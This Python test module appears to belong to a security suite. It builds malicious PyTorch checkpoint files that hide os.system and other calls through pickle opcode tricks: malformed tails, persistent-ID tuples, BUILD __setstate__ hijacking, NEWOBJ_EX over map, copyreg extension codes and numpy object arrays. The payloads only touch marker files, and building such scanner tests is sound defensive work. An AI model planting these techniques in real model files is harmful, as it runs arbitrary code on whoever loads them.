"""Opcode-level tricks: where in a pickle a call can hide and which opcodes make one."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

from tests.security.corpus.carriers import checkpoint_object, replace_data_pkl, save_torch, torch_zip_with
from tests.security.corpus.ops import (
    BINPERSID,
    BUILD,
    NEWOBJ_EX,
    NONE,
    POP,
    REDUCE,
    TRUE,
    call,
    dct,
    glob,
    integer,
    lst,
    proto,
    system_call,
    text,
    touch_command,
    tup,
    whole,
)
from tests.security.corpus.registry import case

SYSTEM = ("os.system", "posix.system")


@case("tail:payload-then-malformed", "opcode", SYSTEM)
def _malformed_tail(folder: Path, m: str) -> Path:
    # The call runs, then the unpickler meets a byte that is no opcode: torch raises, after the damage.
    return replace_data_pkl(folder / "malformed-tail.pt", proto(2) + system_call(m) + POP + b"\xff\xfe")


@case("tail:payload-then-truncated", "opcode", SYSTEM)
def _truncated_tail(folder: Path, m: str) -> Path:
    return replace_data_pkl(folder / "truncated-tail.pt", proto(2) + system_call(m) + b"}(X\x10\x00\x00")


@case("persistent-id:call-inside-pid", "opcode", SYSTEM)
def _persistent_id(folder: Path, m: str) -> Path:
    # The persistent id tuple is built (and the call in it made) before torch's persistent_load sees it.
    payload = tup(text("storage"), system_call(m)) + BINPERSID
    return torch_zip_with(folder / "persistent-id.pt", payload)


@case("build:instance-__setstate__", "opcode", SYSTEM)
def _build_setstate(folder: Path, m: str) -> Path:
    # BUILD stores {'__setstate__': os.system} in a Namespace's __dict__; the next BUILD finds it as an
    # attribute and calls it with the state.
    payload = call(glob("argparse", "Namespace"))
    payload += dct(__setstate__=glob("os", "system")) + BUILD + text(touch_command(m)) + BUILD
    return torch_zip_with(folder / "build-setstate.pt", payload)


@case("newobj_ex:tuple-consumes-map", "opcode", ("builtins.map", "codecs.open"))
def _newobj_ex(folder: Path, m: str) -> Path:
    # tuple.__new__(tuple, map(codecs.open, [marker], ['w'])) iterates the map: the call happens in __new__.
    mapped = call(glob("builtins", "map"), glob("codecs", "open"), lst(text(m)), lst(text("w")))
    payload = glob("builtins", "tuple") + tup(mapped) + dct() + NEWOBJ_EX
    return torch_zip_with(folder / "newobj-ex.pt", payload, protocol=4)


@case("ext:copyreg-extension-registry", "opcode", ("copyreg.add_extension", *SYSTEM))
def _ext_registry(folder: Path, m: str) -> Path:
    # Registers os.system as extension code 0xF0, then reaches it with EXT1: no GLOBAL names it.
    register = call(glob("copyreg", "add_extension"), text("os"), text("system"), integer(0xF0)) + POP
    payload = register + b"\x82\xf0" + tup(text(touch_command(m))) + REDUCE
    return torch_zip_with(folder / "ext-registry.pt", payload)


class _Shell:
    """Pickles as os.system(command)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


@case("numpy:object-array-element", "opcode", SYSTEM)
def _numpy_object_array(folder: Path, m: str) -> Path:
    import numpy as np

    anchors = np.empty(1, dtype=object)
    anchors[0] = _Shell(touch_command(m))
    return save_torch(folder / "numpy-object.pt", {**checkpoint_object(), "anchors": anchors})


@case("numpy:load-allow_pickle-companion", "opcode", ("numpy.load",))
def _numpy_load(folder: Path, m: str) -> Path:
    companion = folder / "stats.npy"
    companion.write_bytes(whole(system_call(m), protocol=2))
    payload = call(glob("numpy", "load"), text(str(companion)), NONE, TRUE)
    return torch_zip_with(folder / "numpy-load.pt", payload)
